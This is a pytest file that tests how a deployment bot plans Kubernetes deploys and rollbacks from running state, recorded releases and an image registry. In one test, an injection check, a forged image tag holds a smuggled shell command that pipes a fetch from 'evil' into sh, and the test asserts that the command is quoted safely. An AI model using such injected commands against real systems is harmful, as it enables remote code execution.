"""What `deploy` and `rollback` plan, from what runs, what was recorded, and what the registry has."""

import asyncio
from collections.abc import AsyncIterator
from datetime import UTC, datetime

import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer

from runbooks.clients.image_registry.registry import RegistryClient
from runbooks.deployments import service_state
from runbooks.fleet.fleet import Release, ReleasedService, Undecided, utc_now
from runbooks.kit.errors import PermanentError
from runbooks.kit.plan import ImageChange, Plan
from runbooks.kit.reasons import ReasonCode
from runbooks.kit.steps import PlainPulse
from runbooks.release import plans, recording, rollouts
from runbooks.release.steps import NewImage, RollBack, Rollout, RolloutAfterFirst, images_of
from runbooks.sync.changes import ItemsChange, ItemsGroup
from sandbox.outside.registry import Registry, digest_of
from tests.support.real import Place


@pytest.fixture
async def registry() -> AsyncIterator[RegistryClient]:
    async with Registry().serve() as url, RegistryClient({"ghcr.io": url}, plain_http=True) as client:
        yield client


async def both(here: Place, tag: str = "v1.2.0", replicas: int = 1) -> None:
    await asyncio.gather(*(here.deploy(name, tag, replicas=replicas, pinned=False) for name in ("backend", "frontend")))


async def by_hand(here: Place, name: str, tag: str) -> None:
    await here.set_image(name, f"ghcr.io/omnicare/{name}:{tag}@{digest_of(name, tag)}")
    await here.until(name, lambda d: d.rolled_out and f":{tag}@" in d.containers[0].image)


async def carried_out(here: Place, plan: Plan, run: str, *, by: str = "requester") -> None:
    """What the bot does with an approved plan, until it is recorded."""
    pulse = PlainPulse(run)
    await here.take(run, over=True)
    await rollouts.stamp(pulse, here.cluster, here.fleet, here.environment)
    images, leaves = images_of(plan), left(plan)
    waves = await rollouts.waves_of(here.cluster, here.environment, images, ())
    await rollouts.roll_out_together(pulse, here.cluster, images, waves, cause=f"omnicare run {run}", by=by)
    services = tuple(ReleasedService(service=change.service, image=change.after) for change in images)
    release = Release(version=images[0].after.tag or "", services=services, run=run, by=by, at=utc_now())
    leaving = [change.service for change in images]
    await recording.record(here.cluster, here.fleet, here.environment, release, leaves, leaving)


def left(plan: Plan) -> str | None:
    """The release that it leaves as bad."""
    return next((step.leaves for step in plan.steps if isinstance(step, RollBack)), None)


async def deploy(here: Place, registry: RegistryClient, version: str, only: str | None = None) -> Plan:
    return await plans.plan_deploy(here.cluster, registry, here.fleet, here.environment, version, only=only)


async def rollback(here: Place, registry: RegistryClient, *services: str, to: str | None = None) -> Plan:
    return await plans.plan_rollback(here.cluster, registry, here.fleet, here.environment, services=services, to=to)


def moves(plan: Plan) -> dict[str, tuple[str | None, str | None]]:
    return {change.service: (change.before.tag, change.after.tag) for change in images_of(plan)}


async def test_a_deploy_names_each_service_pinned_in_order(here: Place, registry: RegistryClient):
    await both(here)
    plan = await deploy(here, registry, "v2.0.0")
    assert [change.service for change in images_of(plan)] == ["backend", "frontend"]
    assert [change.after.digest for change in images_of(plan)] == [
        digest_of(c.service, "v2.0.0") for c in images_of(plan)
    ]
    assert plan.links == (("Compare v1.2.0 with v2.0.0", "https://forge.example/omnicare/compare/v1.2.0...v2.0.0"),)
    assert not plan.needs_reason
    assert not plan.warnings


async def test_a_service_whose_rest_comes_at_once_has_a_step_of_its_own(here: Place, registry: RegistryClient):
    await both(here)
    backend, frontend = here.environment.services
    quick = backend.model_copy(update={"rest_at_once": True})
    here.environment = here.environment.model_copy(update={"services": (quick, frontend)})
    plan = await deploy(here, registry, "v2.0.0")
    steps = [step for step in plan.steps if isinstance(step, NewImage)]
    assert [(type(step), step.title) for step in steps] == [
        (RolloutAfterFirst, "Backend rollout"),
        (Rollout, "Frontend rollout"),
    ]
    assert any(note.startswith("backend: once a first new pod is ready") for note in plan.notes)


async def test_what_runs_already_is_nothing_to_do(here: Place, registry: RegistryClient):
    await both(here)
    await carried_out(here, await deploy(here, registry, "v2.0.0"), "run-1")
    plan = await deploy(here, registry, "v2.0.0")
    assert plan.empty
    assert plan.title == "production already runs v2.0.0 (both digests). Nothing to do."


async def test_going_to_something_older_wants_a_reason(here: Place, registry: RegistryClient):
    await both(here)
    plan = await deploy(here, registry, "v1.1.0")
    assert plan.needs_reason
    assert any("v1.1.0 is older than the running version (v1.2.0)" in warning for warning in plan.warnings)


async def test_a_version_without_an_image_offers_those_that_exist(here: Place, registry: RegistryClient):
    await both(here)
    with pytest.raises(plans.NoSuchVersion) as caught:
        await deploy(here, registry, "v9.9.9")
    assert caught.value.code is ReasonCode.NO_SUCH_VERSION
    assert len(caught.value.newest) == 5
    assert f"Newest: {caught.value.newest[0]} (" in caught.value.message


async def test_an_image_set_past_the_bot_is_warned_of(here: Place, registry: RegistryClient):
    await both(here)
    await carried_out(here, await deploy(here, registry, "v2.0.0"), "run-1")
    await by_hand(here, "backend", "v1.1.0")
    plan = await deploy(here, registry, "v2.0.0")
    assert moves(plan) == {"backend": ("v1.1.0", "v2.0.0")}
    assert any("backend's image was set by hand since the last deploy (kubectl-set" in w for w in plan.warnings)


async def test_an_undecided_environment_is_said_first(here: Place, registry: RegistryClient):
    await both(here)
    undecided = Undecided(run="one", title="Deploy v2.0.0 stopped at Backend rollout", since=utc_now())
    await here.take("one")
    await here.fleet.end(here.environment, "one", undecided=undecided)
    assert "Deploy v2.0.0 stopped" in (await deploy(here, registry, "v2.0.0")).warnings[0]


async def test_a_rollout_that_hangs_is_planned_again_with_the_same_image(here: Place, registry: RegistryClient):
    await both(here)
    await by_hand(here, "frontend", "v2.0.0")
    await here.set_image("backend", f"ghcr.io/omnicare/backend:v2.1.0-bad@{digest_of('backend', 'v2.1.0-bad')}")
    await here.until("backend", lambda d: d.observed_generation >= d.generation and d.total > d.updated > 0)
    plan = await deploy(here, registry, "v2.1.0-bad")
    assert moves(plan)["backend"] == ("v2.1.0-bad", "v2.1.0-bad")


async def test_a_rollback_goes_to_the_last_good_release_and_a_second_one_further_back(
    here: Place, registry: RegistryClient
):
    await both(here, "v1.1.0")
    await carried_out(here, await deploy(here, registry, "v1.2.0"), "run-1")
    await carried_out(here, await deploy(here, registry, "v2.0.0"), "run-2")
    first = await rollback(here, registry)
    assert moves(first) == {"backend": ("v2.0.0", "v1.2.0"), "frontend": ("v2.0.0", "v1.2.0")}
    assert left(first) == "v2.0.0"
    await carried_out(here, first, "run-3")
    second = await rollback(here, registry)
    assert moves(second) == {"backend": ("v1.2.0", "v1.1.0"), "frontend": ("v1.2.0", "v1.1.0")}


async def test_one_service_alone_goes_back_alone_and_its_version_is_not_gone_back_to(
    here: Place, registry: RegistryClient
):
    await both(here, "v1.0.0")
    for run, version in (("run-1", "v1.1.0"), ("run-2", "v1.2.0")):
        await carried_out(here, await deploy(here, registry, version), run)
    plan = await deploy(here, registry, "v2.0.0", only="backend")
    assert plan.title == "Deploy backend v2.0.0 to production"
    assert moves(plan) == {"backend": ("v1.2.0", "v2.0.0")}
    (unusual,) = plan.unusual
    assert unusual.option == "--only backend"
    assert unusual.what.startswith("Only backend is deployed: frontend (v1.2.0 ")
    await carried_out(here, plan, "run-3")
    assert (await here.fleet.releases(here.environment))[0].version == "v2.0.0, v1.2.0"

    back = await rollback(here, registry)
    assert moves(back) == {"backend": ("v2.0.0", "v1.2.0")}
    await carried_out(here, back, "run-4")
    verdicts = [(each.version, each.verdict) for each in await here.fleet.releases(here.environment)]
    assert {("v2.0.0", "bad"), ("v2.0.0, v1.2.0", "bad"), ("v1.2.0", "good")} <= {*verdicts}
    assert moves(await rollback(here, registry))["backend"] == ("v1.2.0", "v1.1.0")


async def hangs(here: Place, service: str, version: str = "v2.1.0-bad") -> None:
    """Somebody asked for a version that does not get ready."""
    await here.set_image(service, f"ghcr.io/omnicare/{service}:{version}@{digest_of(service, version)}")
    await here.until(service, lambda d: d.observed_generation >= d.generation and d.total > d.updated > 0)


async def test_one_service_alone_decides_nothing_while_another_one_hangs(here: Place, registry: RegistryClient):
    await both(here, "v1.2.0")
    await by_hand(here, "backend", "v2.0.0")
    await hangs(here, "frontend", "v2.1.0-bad")
    await here.take("one")
    undecided = Undecided(run="one", title="Deploy v2.0.0 stopped at Frontend rollout", since=utc_now())
    await here.fleet.end(here.environment, "one", undecided=undecided)
    with pytest.raises(PermanentError, match="but frontend does not run completely, so nothing is recorded") as refused:
        await deploy(here, registry, "v2.0.0", only="backend")
    assert refused.value.code is ReasonCode.NOT_A_RELEASE


@pytest.mark.parametrize("recorded", [True, False])
async def test_a_service_that_hangs_is_no_part_of_a_release_and_not_gone_back_to(
    here: Place, registry: RegistryClient, recorded: bool
):
    await both(here, "v1.1.0")
    if recorded:
        await carried_out(here, await deploy(here, registry, "v1.2.0"), "run-1")
    await hangs(here, "frontend")
    plan = await deploy(here, registry, "v2.0.0", only="backend")
    (unusual,) = plan.unusual
    assert unusual.what.startswith("Only backend is deployed: frontend (v2.1.0-bad")
    await carried_out(here, plan, "run-2")
    newest, *_ = await here.fleet.releases(here.environment)
    assert (newest.version, newest.verdict, newest.why) == ("v2.0.0", "unproven", "frontend did not run completely")
    assert [each.service for each in newest.services] == ["backend"]
    back = moves(await rollback(here, registry))
    assert back["frontend"] == ("v2.1.0-bad", "v1.2.0" if recorded else "v1.1.0")


async def test_a_release_of_several_versions_is_gone_back_to_from_the_one_that_completed_it(
    here: Place, registry: RegistryClient
):
    await both(here, "v1.1.0")
    await carried_out(here, await deploy(here, registry, "v1.2.0"), "run-1")
    await carried_out(here, await deploy(here, registry, "v2.0.0", only="backend"), "run-2")
    rest = await deploy(here, registry, "v2.0.0", only="frontend")
    assert rest.unusual == ()  # after it all run the same
    await carried_out(here, rest, "run-3")
    back = await rollback(here, registry)
    assert moves(back) == {"frontend": ("v2.0.0", "v1.2.0")}
    await carried_out(here, back, "run-4")
    known = await here.fleet.releases(here.environment)
    assert {each.verdict for each in known if each.version == "v2.0.0, v1.2.0"} == {"good"}
    assert moves(await rollback(here, registry)) == {"backend": ("v2.0.0", "v1.2.0")}


async def test_while_a_first_deploy_hangs_a_rollback_touches_only_what_it_changed(
    here: Place, registry: RegistryClient
):
    await both(here, "v1.1.0")
    await asyncio.gather(by_hand(here, "backend", "v1.2.0"), by_hand(here, "frontend", "v1.2.0"))
    await here.set_image("backend", f"ghcr.io/omnicare/backend:v2.0.0-bad@{digest_of('backend', 'v2.0.0-bad')}")
    await here.until("backend", lambda d: d.observed_generation >= d.generation and d.total > d.updated > 0)
    plan = await rollback(here, registry)
    assert moves(plan) == {"backend": ("v2.0.0-bad", "v1.2.0")}
    await carried_out(here, plan, "run-1")
    again = await rollback(here, registry, "backend")
    assert moves(again) == {"backend": ("v1.2.0", "v1.1.0")}


async def test_a_rollback_after_one_that_did_not_get_to_all_takes_the_rest_where_the_others_went(
    here: Place, registry: RegistryClient
):
    await both(here, "v1.2.0")
    await asyncio.gather(by_hand(here, "backend", "v2.0.0"), by_hand(here, "frontend", "v2.0.0"))
    await here.fleet.mark_bad(here.environment, "v2.0.0", "left by run 7KQ2")
    await by_hand(here, "backend", "v1.2.0")
    plan = await rollback(here, registry)
    assert moves(plan) == {"frontend": ("v2.0.0", "v1.2.0")}
    assert plan.unchanged == ("backend",)

    await here.set_image("backend", f"ghcr.io/omnicare/backend:v2.0.0-bad@{digest_of('backend', 'v2.0.0-bad')}")
    await here.until("backend", lambda d: d.observed_generation >= d.generation and d.total > d.updated > 0)
    plan = await rollback(here, registry)
    assert moves(plan) == {"backend": ("v2.0.0-bad", "v1.2.0"), "frontend": ("v2.0.0", "v1.2.0")}


async def test_a_rollback_without_anything_before_says_so(here: Place, registry: RegistryClient):
    await both(here)
    with pytest.raises(PermanentError) as caught:
        await rollback(here, registry)
    assert caught.value.code is ReasonCode.NO_RELEASE


async def test_a_named_release_is_taken_though_it_is_bad_and_said_to_be(here: Place, registry: RegistryClient):
    await both(here)
    await carried_out(here, await deploy(here, registry, "v2.0.0"), "run-1")
    await carried_out(here, await rollback(here, registry), "run-2")
    plan = await rollback(here, registry, to="v2.0.0")
    assert moves(plan)["backend"] == ("v1.2.0", "v2.0.0")
    assert left(plan) is None
    assert any("v2.0.0 was marked bad" in warning for warning in plan.warnings)


async def test_a_release_that_was_never_here_is_refused_with_those_that_were(here: Place, registry: RegistryClient):
    await both(here)
    await carried_out(here, await deploy(here, registry, "v2.0.0"), "run-1")
    with pytest.raises(PermanentError) as caught:
        await rollback(here, registry, to="v7.0.0")
    assert caught.value.code is ReasonCode.NO_RELEASE
    assert "Recorded: v2.0.0." in caught.value.message


async def test_a_paused_deployment_is_named_before_anybody_confirms(here: Place, registry: RegistryClient):
    await both(here)
    await carried_out(here, await deploy(here, registry, "v2.0.0"), "run-1")
    await here.patch("backend", {"op": "add", "path": "/spec/paused", "value": True})
    plan = await rollback(here, registry)
    (warning,) = [each for each in plan.warnings if "paused" in each]
    assert warning.startswith("backend is paused")
    assert f"kubectl rollout resume deployment/backend -n {here.namespace}" in warning


async def test_what_runs_is_told_with_who_set_it_and_when(here: Place, registry: RegistryClient):
    await both(here, replicas=2)
    before = (await service_state.current(here.cluster, here.environment))[0]
    assert (before.state, before.ready, before.run) == ("complete", 2, None)
    await carried_out(here, await deploy(here, registry, "v2.0.0"), "run-1", by="Maya")
    by_object_alone = (await service_state.current(here.cluster, here.environment))[0]
    assert (by_object_alone.by, by_object_alone.run) == ("omnicare-bot", None), "anybody may edit an annotation"
    recorded = await here.fleet.releases(here.environment)
    after = (await service_state.current(here.cluster, here.environment, recorded))[0]
    assert (after.by, after.run, after.stamp, after.by_hand) == ("Maya", "run-1", "run-1", False)
    assert after.digests == (digest_of("backend", "v2.0.0"),)
    assert after.cause == "omnicare run run-1"


async def test_a_deployment_that_is_not_there_is_a_state(here: Place, registry: RegistryClient):
    assert [s.state for s in await service_state.current(here.cluster, here.environment)] == ["missing", "missing"]
    with pytest.raises(PermanentError) as caught:
        await deploy(here, registry, "v2.0.0")
    assert caught.value.code is ReasonCode.NOT_FOUND


def test_the_kubectl_lines_name_the_digests(registry: RegistryClient):
    from runbooks.kit.plan import Image

    after = Image(repository="ghcr.io/omnicare/backend", tag="v1.2.0", digest="sha256:" + "a" * 64)
    change = ImageChange(
        service="backend", namespace="omnicare-prod", deployment="backend", container="api", before=after, after=after
    )
    assert rollouts.kubectl_lines([change]) == [
        f"kubectl set image deployment/backend api={after.reference} -n omnicare-prod",
        "kubectl rollout status deployment/backend -n omnicare-prod --timeout=10m",
    ]
    forged = change.model_copy(update={"after": after.model_copy(update={"tag": "x; curl evil|sh #"})})
    assert f"'api={forged.after.reference}' -n omnicare-prod" in rollouts.kubectl_lines([forged])[0]


def test_a_script_that_gives_each_item_a_reason_of_its_own_makes_no_plan_without_end():
    """A plan is kept with each state of its request, and each card of it."""
    groups = tuple(
        ItemsGroup(reason=f"error_{n}", items=2, devices=n % 3, oldest_seconds=float(n)) for n in range(100_000)
    )
    change = ItemsChange(act="clear", service="backend", namespace="n", ids="d", count=200_000, groups=groups)
    assert len(change.model_dump_json()) < 4000
    assert sum(group.items for group in change.groups) == 200_000
    last = change.groups[-1]
    assert (last.reason, last.oldest_seconds) == ("99976 other reasons", 99_999.0)
    again = ItemsChange.model_validate(change.model_dump())
    assert again == change
    assert ItemsChange(act="clear", service="backend", namespace="n", groups=groups[:25]).groups == groups[:25]


@pytest.mark.parametrize(("typed", "tag"), [("2.3.0", "2.3.0"), ("v2.3.0", "2.3.0"), ("2.0.0", "v2.0.0")])
async def test_a_version_is_looked_for_as_typed_then_with_or_without_its_v(here: Place, typed: str, tag: str):
    await both(here)
    served = Registry()
    for service in ("backend", "frontend"):
        served.publish(service, "2.3.0", datetime.now(UTC))
    async with served.serve() as url, RegistryClient({"ghcr.io": url}, plain_http=True) as client:
        plan = await deploy(here, client, typed)
    assert plan.title.startswith(f"Deploy {tag} to ")
    assert [change.after.tag for change in images_of(plan)] == [tag, tag]


async def test_of_two_spellings_that_exist_the_typed_one_is_taken(here: Place):
    await both(here)
    served = Registry()
    for service in ("backend", "frontend"):
        served.publish(service, "2.0.0", datetime.now(UTC))
    async with served.serve() as url, RegistryClient({"ghcr.io": url}, plain_http=True) as client:
        for typed in ("2.0.0", "v2.0.0"):
            plan = await deploy(here, client, typed)
            assert [change.after.tag for change in images_of(plan)] == [typed, typed]


@pytest.mark.parametrize("recorded", [True, False])
async def test_a_rollback_finds_the_named_release_with_or_without_its_v(
    here: Place, registry: RegistryClient, recorded: bool
):
    await both(here)
    if recorded:
        await carried_out(here, await deploy(here, registry, "v2.0.0"), "run-1")
        await carried_out(here, await deploy(here, registry, "v1.2.0"), "run-2")
    else:
        await asyncio.gather(by_hand(here, "backend", "v2.0.0"), by_hand(here, "frontend", "v2.0.0"))
    plan = await rollback(here, registry, to="2.0.0" if recorded else "1.2.0")
    assert {after for _, after in moves(plan).values()} == {"v2.0.0" if recorded else "v1.2.0"}


async def test_a_list_of_versions_that_can_t_be_read_does_not_hide_that_the_version_is_missing(here: Place):
    await both(here)

    async def breaks_at_lists(request: web.Request) -> web.Response:
        return web.Response(status=500 if "/tags/" in request.path else 404)

    app = web.Application()
    app.router.add_get("/{path:.*}", breaks_at_lists)
    async with (
        TestServer(app) as server,
        RegistryClient({"ghcr.io": str(server.make_url("")).rstrip("/")}, plain_http=True) as client,
    ):
        with pytest.raises(plans.NoSuchVersion, match=r"There is no image ghcr\.io/omnicare/backend:v9\.9\.9"):
            await deploy(here, client, "v9.9.9")


@pytest.mark.parametrize(
    "own_write",
    [
        ("/metadata/annotations/omnicare.dev~1run", "7KQ2"),
        ("/spec/strategy/rollingUpdate/maxSurge", "100%"),
        ("/metadata/labels/seen", "yes"),
    ],
)
async def test_what_is_no_new_pod_template_is_no_rollout(
    here: Place, registry: RegistryClient, own_write: tuple[str, str]
) -> None:
    await both(here)
    await by_hand(here, "backend", "v2.0.0")
    before = await deploy(here, registry, "v2.0.0")
    path, value = own_write
    for service in ("backend", "frontend"):
        await here.patch(service, {"op": "add", "path": path, "value": value})
    after = await deploy(here, registry, "v2.0.0")
    assert moves(after) == {"frontend": ("v1.2.0", "v2.0.0")}
    assert after.digest({}) == before.digest({})
    assert [each.state for each in await service_state.current(here.cluster, here.environment)] == ["complete"] * 2


async def test_a_new_pod_template_is_a_rollout_at_once(here: Place, registry: RegistryClient) -> None:
    await both(here)
    await here.set_image("backend", f"ghcr.io/omnicare/backend:v2.1.0-bad@{digest_of('backend', 'v2.1.0-bad')}")
    backend, frontend = await service_state.current(here.cluster, here.environment)
    assert (backend.state, frontend.state) == ("rolling", "complete")
    assert moves(await rollback(here, registry)) == {"backend": ("v2.1.0-bad", "v1.2.0")}
